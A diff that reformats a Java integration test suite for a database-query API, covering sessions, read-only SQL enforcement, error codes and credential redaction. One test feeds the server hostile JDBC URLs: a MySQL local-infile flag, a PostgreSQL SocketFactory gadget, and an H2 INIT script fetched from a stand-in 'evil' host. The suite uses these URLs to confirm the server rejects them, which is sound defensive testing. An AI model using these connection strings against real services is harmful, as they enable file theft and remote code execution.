@@ -29,7 +29,9 @@ class ApiTest {
   static void noModelConfigured() {
     // LLM settings are read from the environment and same-named system properties; another test
     // class in this JVM may have set some.
-    System.getProperties().keySet().removeIf(k -> String.valueOf(k).matches("(OPENAI|VLLM|OLLAMA)_.*"));
+    System.getProperties()
+        .keySet()
+        .removeIf(k -> String.valueOf(k).matches("(OPENAI|VLLM|OLLAMA)_.*"));
   }
 
   @BeforeEach
@@ -48,13 +50,23 @@ class ApiTest {
     Http.Reply created = http.post("/api/v1/sessions", "{\"database\":\"demo\"}");
 
     assertThat(created.status()).isEqualTo(201);
-    assertThat((String) created.get("sessionId")).matches("[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}");
+    assertThat((String) created.get("sessionId"))
+        .matches("[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}");
     assertThat((String) created.get("dialect")).isEqualTo("postgres");
     assertThat((List<String>) created.get("tables"))
-        .contains("public.device", "public.device_type", "public.location", "public.device_status",
-            "public.interface", "public.link", "public.alert", "public.maintenance_window");
+        .contains(
+            "public.device",
+            "public.device_type",
+            "public.location",
+            "public.device_status",
+            "public.interface",
+            "public.link",
+            "public.alert",
+            "public.maintenance_window");
     assertThat(java.time.Instant.parse(created.get("expiresAt")))
-        .isBetween(java.time.Instant.now().plusSeconds(59 * 60), java.time.Instant.now().plusSeconds(61 * 60));
+        .isBetween(
+            java.time.Instant.now().plusSeconds(59 * 60),
+            java.time.Instant.now().plusSeconds(61 * 60));
   }
 
   @Test
@@ -62,14 +74,17 @@ class ApiTest {
     String id = demoSession();
 
     Http.Reply reply =
-        http.post("/api/v1/sessions/" + id + "/sql",
+        http.post(
+            "/api/v1/sessions/" + id + "/sql",
             "{\"sql\":\"SELECT hostname, installed_on FROM device WHERE hostname LIKE 'rtr-%' ORDER BY hostname\"}");
 
     assertThat(reply.status()).as(reply.body()).isEqualTo(200);
     assertThat((List<Map<String, Object>>) reply.get("columns"))
         .extracting(c -> c.get("name"))
         .containsExactly("hostname", "installed_on");
-    assertThat(reply.rows()).hasSize(((Number) reply.get("rowCount")).intValue()).hasSizeGreaterThanOrEqualTo(5);
+    assertThat(reply.rows())
+        .hasSize(((Number) reply.get("rowCount")).intValue())
+        .hasSizeGreaterThanOrEqualTo(5);
     assertThat(reply.rows().get(0).get(0)).isEqualTo("rtr-ams1-01");
     assertThat(reply.rows().get(0).get(1)).isEqualTo("2020-09-09");
     assertThat((Boolean) reply.get("truncated")).isFalse();
@@ -80,7 +95,8 @@ class ApiTest {
   void brokenQueryGets422WithTheDiagnosis() {
     String id = demoSession();
 
-    Http.Reply reply = http.post("/api/v1/sessions/" + id + "/sql", "{\"sql\":\"SELECT hostnam FROM device\"}");
+    Http.Reply reply =
+        http.post("/api/v1/sessions/" + id + "/sql", "{\"sql\":\"SELECT hostnam FROM device\"}");
 
     assertThat(reply.status()).as(reply.body()).isEqualTo(422);
     assertThat(reply.error())
@@ -94,11 +110,13 @@ class ApiTest {
   void deleteIsRefusedWith403ReadOnlyViolationAndNothingIsDeleted() {
     String id = demoSession();
 
-    Http.Reply reply = http.post("/api/v1/sessions/" + id + "/sql", "{\"sql\":\"DELETE FROM alert\"}");
+    Http.Reply reply =
+        http.post("/api/v1/sessions/" + id + "/sql", "{\"sql\":\"DELETE FROM alert\"}");
 
     assertThat(reply.status()).as(reply.body()).isEqualTo(403);
     assertThat(reply.error()).containsEntry("category", "READ_ONLY_VIOLATION");
-    Http.Reply count = http.post("/api/v1/sessions/" + id + "/sql", "{\"sql\":\"SELECT COUNT(*) FROM alert\"}");
+    Http.Reply count =
+        http.post("/api/v1/sessions/" + id + "/sql", "{\"sql\":\"SELECT COUNT(*) FROM alert\"}");
     assertThat(((Number) count.rows().get(0).get(0)).intValue()).isGreaterThan(20);
   }
 
@@ -111,7 +129,8 @@ class ApiTest {
     Http.Reply sql = http.post("/api/v1/sessions/" + unknown + "/sql", "{\"sql\":\"SELECT 1\"}");
     assertThat(sql.status()).isEqualTo(404);
     assertThat(sql.error()).containsEntry("code", "SESSION_NOT_FOUND");
-    assertThat(http.post("/api/v1/sessions/" + unknown + "/ask", "{\"question\":\"x\"}").status()).isEqualTo(404);
+    assertThat(http.post("/api/v1/sessions/" + unknown + "/ask", "{\"question\":\"x\"}").status())
+        .isEqualTo(404);
   }
 
   @Test
@@ -140,7 +159,9 @@ class ApiTest {
 
     Http.Reply wrongType = http.post("/api/v1/sessions/" + id + "/sql", "{\"sql\":42}");
     assertThat(wrongType.status()).isEqualTo(400);
-    assertThat((String) wrongType.error().get("message")).contains("'sql' must be a string").contains("a number");
+    assertThat((String) wrongType.error().get("message"))
+        .contains("'sql' must be a string")
+        .contains("a number");
 
     Http.Reply notObject = http.post("/api/v1/sessions", "[1,2]");
     assertThat(notObject.status()).isEqualTo(400);
@@ -160,7 +181,10 @@ class ApiTest {
     Http.Reply info = http.get("/api/v1/sessions/" + id);
 
     assertThat(info.status()).isEqualTo(200);
-    assertThat(info.json()).containsEntry("sessionId", id).containsEntry("dialect", "postgres").containsEntry("database", "demo");
+    assertThat(info.json())
+        .containsEntry("sessionId", id)
+        .containsEntry("dialect", "postgres")
+        .containsEntry("database", "demo");
     assertThat(info.body().toLowerCase()).doesNotContain("password");
   }
 
@@ -172,8 +196,11 @@ class ApiTest {
 
     assertThat(schema.status()).as(schema.body()).isEqualTo(200);
     List<Map<String, Object>> tables = schema.get("tables");
-    Map<String, Object> device = tables.stream().filter(t -> "device".equals(t.get("name"))).findFirst().orElseThrow();
-    assertThat((List<Map<String, Object>>) device.get("columns")).extracting(c -> c.get("name")).contains("hostname", "status_id");
+    Map<String, Object> device =
+        tables.stream().filter(t -> "device".equals(t.get("name"))).findFirst().orElseThrow();
+    assertThat((List<Map<String, Object>>) device.get("columns"))
+        .extracting(c -> c.get("name"))
+        .contains("hostname", "status_id");
     assertThat((List<String>) device.get("primaryKey")).containsExactly("id");
     assertThat((List<Map<String, Object>>) device.get("foreignKeys"))
         .extracting(fk -> fk.get("referencedTable"))
@@ -181,34 +208,43 @@ class ApiTest {
     assertThat((String) device.get("comment")).isEqualTo("Managed network devices");
 
     Http.Reply refreshed = http.get("/api/v1/sessions/" + id + "/schema?refresh=true");
-    assertThat(java.time.Instant.parse(refreshed.get("loadedAt"))).isAfter(java.time.Instant.parse(schema.get("loadedAt")));
+    assertThat(java.time.Instant.parse(refreshed.get("loadedAt")))
+        .isAfter(java.time.Instant.parse(schema.get("loadedAt")));
   }
 
   @Test
   void askWithoutAModelGets503NamingWhatToSet() {
     String id = demoSession();
 
-    Http.Reply ask = http.post("/api/v1/sessions/" + id + "/ask", "{\"question\":\"Which devices are offline?\"}");
+    Http.Reply ask =
+        http.post(
+            "/api/v1/sessions/" + id + "/ask", "{\"question\":\"Which devices are offline?\"}");
 
     assertThat(ask.status()).as(ask.body()).isEqualTo(503);
     assertThat(ask.error()).containsEntry("code", "LLM_UNAVAILABLE");
-    assertThat((String) ask.error().get("message")).contains("OPENAI_API_KEY", "OLLAMA_HOST", "DATABASEAI_LLM_PROVIDER");
+    assertThat((String) ask.error().get("message"))
+        .contains("OPENAI_API_KEY", "OLLAMA_HOST", "DATABASEAI_LLM_PROVIDER");
   }
 
   @Test
   void dangerousDriverPropertiesAndForeignUrlsAreRefused() {
     Http.Reply infile =
-        http.post("/api/v1/sessions",
+        http.post(
+            "/api/v1/sessions",
             "{\"jdbcUrl\":\"jdbc:mysql://localhost:3306/x?allowLoadLocalInfile=true\",\"username\":\"u\"}");
     assertThat(infile.status()).isEqualTo(400);
     assertThat((String) infile.error().get("message")).contains("allowloadlocalinfile");
 
     Http.Reply factory =
-        http.post("/api/v1/sessions",
+        http.post(
+            "/api/v1/sessions",
             "{\"jdbcUrl\":\"jdbc:postgresql://localhost/x?SocketFactory=org.springframework.context.support.ClassPathXmlApplicationContext\"}");
     assertThat(factory.status()).isEqualTo(400);
 
-    Http.Reply h2 = http.post("/api/v1/sessions", "{\"jdbcUrl\":\"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'\"}");
+    Http.Reply h2 =
+        http.post(
+            "/api/v1/sessions",
+            "{\"jdbcUrl\":\"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'\"}");
     assertThat(h2.status()).isEqualTo(400);
     assertThat((String) h2.error().get("message")).contains("jdbc:postgresql://");
   }
@@ -219,20 +255,32 @@ class ApiTest {
     String url = "jdbc:postgresql://localhost:" + demo.port().orElseThrow() + "/demo";
     try (java.sql.Connection admin = java.sql.DriverManager.getConnection(url, "postgres", "");
         java.sql.Statement s = admin.createStatement()) {
-      s.execute("DO $$ BEGIN IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = 'pw_user') THEN "
-          + "CREATE ROLE pw_user LOGIN PASSWORD 'right-secret'; END IF; END $$");
+      s.execute(
+          "DO $$ BEGIN IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = 'pw_user') THEN "
+              + "CREATE ROLE pw_user LOGIN PASSWORD 'right-secret'; END IF; END $$");
       s.execute("GRANT SELECT ON ALL TABLES IN SCHEMA public TO pw_user");
     }
 
-    Http.Reply ok = http.post("/api/v1/sessions", "{\"jdbcUrl\":" + Http.quote(url) + ",\"username\":\"pw_user\",\"password\":\"right-secret\"}");
+    Http.Reply ok =
+        http.post(
+            "/api/v1/sessions",
+            "{\"jdbcUrl\":"
+                + Http.quote(url)
+                + ",\"username\":\"pw_user\",\"password\":\"right-secret\"}");
     assertThat(ok.status()).as(ok.body()).isEqualTo(201);
 
-    Http.Reply wrong = http.post("/api/v1/sessions", "{\"jdbcUrl\":" + Http.quote(url) + ",\"username\":\"pw_user\",\"password\":\"guess\"}");
+    Http.Reply wrong =
+        http.post(
+            "/api/v1/sessions",
+            "{\"jdbcUrl\":"
+                + Http.quote(url)
+                + ",\"username\":\"pw_user\",\"password\":\"guess\"}");
     assertThat(wrong.status()).as(wrong.body()).isIn(422, 502);
     assertThat(wrong.error()).containsEntry("code", "CONNECTION_FAILED");
     assertThat(wrong.body()).doesNotContain("right-secret").doesNotContain("guess");
     assertThat(http.get("/api/v1/stats/pools").body()).doesNotContain("right-secret");
-    assertThat(http.get("/api/v1/sessions/" + ok.get("sessionId")).body()).doesNotContain("right-secret");
+    assertThat(http.get("/api/v1/sessions/" + ok.get("sessionId")).body())
+        .doesNotContain("right-secret");
   }
 
   @Test
@@ -240,23 +288,36 @@ class ApiTest {
     TestDatabase maria = Databases.mariadb("demo");
     maria.execute(SqlScript.load("/demo/mysql.sql").toArray(String[]::new));
 
-    Http.Reply created = http.post("/api/v1/sessions",
-        "{\"jdbcUrl\":" + Http.quote(maria.jdbcUrl()) + ",\"username\":" + Http.quote(maria.username())
-            + ",\"password\":" + Http.quote(maria.password()) + "}");
+    Http.Reply created =
+        http.post(
+            "/api/v1/sessions",
+            "{\"jdbcUrl\":"
+                + Http.quote(maria.jdbcUrl())
+                + ",\"username\":"
+                + Http.quote(maria.username())
+                + ",\"password\":"
+                + Http.quote(maria.password())
+                + "}");
     assertThat(created.status()).as(created.body()).isEqualTo(201);
     assertThat((String) created.get("dialect")).isEqualTo("mysql");
     String id = created.get("sessionId");
 
-    Http.Reply offline = http.post("/api/v1/sessions/" + id + "/sql",
-        "{\"sql\":\"SELECT d.hostname FROM device d JOIN device_status s ON s.id = d.status_id WHERE s.code = 'down' ORDER BY 1\"}");
+    Http.Reply offline =
+        http.post(
+            "/api/v1/sessions/" + id + "/sql",
+            "{\"sql\":\"SELECT d.hostname FROM device d JOIN device_status s ON s.id = d.status_id WHERE s.code = 'down' ORDER BY 1\"}");
     assertThat(offline.status()).as(offline.body()).isEqualTo(200);
-    assertThat(offline.rows()).extracting(r -> r.get(0)).containsExactly("ap-lon1-02", "fw-nyc1-01", "rtr-par1-01", "sw-ams1-02");
+    assertThat(offline.rows())
+        .extracting(r -> r.get(0))
+        .containsExactly("ap-lon1-02", "fw-nyc1-01", "rtr-par1-01", "sw-ams1-02");
 
-    Http.Reply broken = http.post("/api/v1/sessions/" + id + "/sql", "{\"sql\":\"SELECT hostnam FROM device\"}");
+    Http.Reply broken =
+        http.post("/api/v1/sessions/" + id + "/sql", "{\"sql\":\"SELECT hostnam FROM device\"}");
     assertThat(broken.status()).isEqualTo(422);
     assertThat(broken.error()).containsEntry("category", "UNDEFINED_COLUMN");
 
-    Http.Reply write = http.post("/api/v1/sessions/" + id + "/sql", "{\"sql\":\"DELETE FROM alert\"}");
+    Http.Reply write =
+        http.post("/api/v1/sessions/" + id + "/sql", "{\"sql\":\"DELETE FROM alert\"}");
     assertThat(write.status()).as(write.body()).isEqualTo(403);
   }
 
@@ -264,9 +325,16 @@ class ApiTest {
   void healthStaysUpWhenAUsersDatabaseGoesDown() throws Exception {
     dev.databaseai.server.demo.DemoDatabase other = new dev.databaseai.server.demo.DemoDatabase();
     var credentials = other.credentials();
-    Http.Reply created = http.post("/api/v1/sessions",
-        "{\"jdbcUrl\":" + Http.quote(credentials.key().jdbcUrl()) + ",\"username\":" + Http.quote(credentials.key().username())
-            + ",\"password\":" + Http.quote(credentials.password()) + "}");
+    Http.Reply created =
+        http.post(
+            "/api/v1/sessions",
+            "{\"jdbcUrl\":"
+                + Http.quote(credentials.key().jdbcUrl())
+                + ",\"username\":"
+                + Http.quote(credentials.key().username())
+                + ",\"password\":"
+                + Http.quote(credentials.password())
+                + "}");
     assertThat(created.status()).as(created.body()).isEqualTo(201);
 
     other.close();
@@ -275,7 +343,9 @@ class ApiTest {
     assertThat(health.status()).as(health.body()).isEqualTo(200);
     assertThat((String) health.get("status")).isEqualTo("UP");
     assertThat(health.body()).contains("\"status\":\"DOWN\"").contains(credentials.key().jdbcUrl());
-    Http.Reply sql = http.post("/api/v1/sessions/" + created.get("sessionId") + "/sql", "{\"sql\":\"SELECT 1\"}");
+    Http.Reply sql =
+        http.post(
+            "/api/v1/sessions/" + created.get("sessionId") + "/sql", "{\"sql\":\"SELECT 1\"}");
     assertThat(sql.status()).as(sql.body()).isIn(422, 503);
   }
 
@@ -292,7 +362,8 @@ class ApiTest {
     Http.Reply reply = http.get("/api/v1/nothing-here");
     assertThat(reply.status()).isEqualTo(404);
     assertThat(reply.error()).containsEntry("code", "NOT_FOUND");
-    assertThat((String) reply.error().get("message")).contains("/api/v1/nothing-here", "/openapi/databaseai-v1.yml");
+    assertThat((String) reply.error().get("message"))
+        .contains("/api/v1/nothing-here", "/openapi/databaseai-v1.yml");
   }
 
   @Test
@@ -312,7 +383,8 @@ class ApiTest {
 
     Http.Reply prometheus = http.get("/prometheus");
     assertThat(prometheus.status()).isEqualTo(200);
-    assertThat(prometheus.body()).contains("databaseai_sessions_active", "hikaricp_connections_active");
+    assertThat(prometheus.body())
+        .contains("databaseai_sessions_active", "hikaricp_connections_active");
 
     Http.Reply openapi = http.get("/openapi/databaseai-v1.yml");
     assertThat(openapi.status()).isEqualTo(200);
